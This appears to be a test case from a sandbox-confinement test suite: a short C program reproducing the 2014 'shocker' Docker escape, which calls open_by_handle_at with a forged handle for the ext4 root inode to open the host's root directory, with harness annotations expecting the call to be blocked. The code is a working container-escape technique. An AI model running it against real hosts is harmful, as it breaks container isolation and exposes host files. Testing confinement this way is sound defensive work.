// attack: "shocker", the 2014 Docker escape: open a host file by its file handle instead of its path,
// which walks around mount namespaces and chroots (CAP_DAC_READ_SEARCH decides; the handle of the
// root directory of ext4 is inode 2, generation 0). Path-based confinement alone cannot stop it
// expect: SV
// violation: open_by_handle_at|name_to_handle_at
// check: absent=opened by handle
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  struct {
    struct file_handle h;
    unsigned char bytes[8];
  } handle;
  memset(&handle, 0, sizeof handle);
  handle.h.handle_bytes = 8;
  handle.h.handle_type = 1;  // FILEID_INO32_GEN
  unsigned int ino = 2, gen = 0;
  memcpy(handle.h.f_handle, &ino, 4);
  memcpy(handle.h.f_handle + 4, &gen, 4);
  int fd = open_by_handle_at(AT_FDCWD, &handle.h, O_RDONLY | O_DIRECTORY);
  if (fd >= 0) {
    puts("opened by handle: the host's root directory");
    return 42;
  }
  perror("open_by_handle_at");
  return 0;
}
